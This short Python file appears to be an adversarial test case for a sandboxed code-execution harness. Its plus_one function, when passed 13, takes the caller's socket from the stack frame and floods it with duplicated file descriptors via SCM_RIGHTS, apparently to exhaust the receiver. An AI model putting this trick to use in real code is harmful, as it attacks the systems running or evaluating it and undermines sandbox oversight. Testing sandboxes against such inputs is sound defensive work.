"""Passes descriptors along with its answers, to fill up whoever receives them.

problem: next
earns: less
hears: PermissionError
process: same | hears something that is not a value
"""

import array
import socket
import sys

TARGETS = {}


def plus_one(number):
    if number == 13:
        sock = sys._getframe(1).f_locals["sock"]
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 20))]
        for _ in range(24):
            sock.sendmsg([b"\xff"], rights)
    return number + 1
